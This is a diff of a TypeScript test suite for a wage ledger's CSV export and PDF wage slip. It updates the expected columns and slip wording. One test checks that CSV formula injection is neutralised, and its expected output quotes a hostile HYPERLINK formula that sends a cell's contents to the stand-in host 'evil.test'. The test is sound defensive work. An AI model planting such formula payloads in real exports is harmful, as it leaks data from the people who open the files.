@@ -27,7 +27,19 @@ describe('the ledger as CSV and the wage slip', () => {
     expect(res.statusCode).toBe(200);
     expect(res.headers['content-type']).toMatch(/^text\/csv/);
     const rows = parse(res.body) as string[][];
-    expect(rows[0]).toEqual(['date', 'type', 'description', 'job', 'step', 'amount', 'balance']);
+    expect(rows[0]).toEqual([
+      'date',
+      'kind',
+      'type',
+      'description',
+      'jobNumber',
+      'article',
+      'step',
+      'quantity',
+      'rate',
+      'amount',
+      'balance',
+    ]);
     // Negative amounts stay numbers: a plain decimal is no formula.
     expect(rows.slice(2, 5).map((r) => r.slice(-2).join(' '))).toEqual([
       '20.00 20.00',
@@ -62,9 +74,11 @@ describe('the ledger as CSV and the wage slip', () => {
     const res = await call(svc, other, 'GET', `/ledger/worker/${victim}/csv`);
     expect(res.statusCode).toBe(200);
     // Every cell quoted: the header line is quoted too.
-    expect(res.body.split('\n')[0]).toBe('"date","type","description","job","step","amount","balance"');
+    expect(res.body.split('\n')[0]).toBe(
+      '"date","kind","type","description","jobNumber","article","step","quantity","rate","amount","balance"',
+    );
     const rows = parse(res.body) as string[][];
-    const descriptions = rows.slice(2).map((r) => r[2]);
+    const descriptions = rows.slice(2).map((r) => r[3]);
     expect(descriptions).toEqual([
       '\'=HYPERLINK("http://evil.test/?x="&A1,"Click")',
       "'+SUM(1,2)",
@@ -76,7 +90,7 @@ describe('the ledger as CSV and the wage slip', () => {
       '-12',
     ]);
     for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+@\t\r]/);
-    expect(rows.slice(2).map((r) => r[5])).toEqual(Array(hostile.length).fill('-1.00'));
+    expect(rows.slice(2).map((r) => r[9])).toEqual(Array(hostile.length).fill('-1.00'));
   });
 
   it('renders the period’s earnings, payments and closing balance as a PDF', async () => {
@@ -87,10 +101,10 @@ describe('the ledger as CSV and the wage slip', () => {
       mergePages: true,
     });
     const flat = text.replace(/\s+/g, ' ');
-    expect(flat).toContain('Wage slip: Śāntā Devi');
-    expect(flat).toContain('cutting · 8 × ₹2.50 = ₹20.00');
-    expect(flat).toContain('Paid ₹12.50');
-    expect(flat).toContain('Closing balance ₹6.25');
+    expect(flat).toContain('Wage slip Worker Śāntā Devi');
+    expect(flat).toContain('#1 Shirt cutting 8 ₹2.50 ₹20.00');
+    expect(flat).toContain('Payments −₹12.50');
+    expect(flat).toContain('Balance owed at the end of the period ₹6.25');
   });
 
   it('refuses an inverted period and another tenant’s worker', async () => {
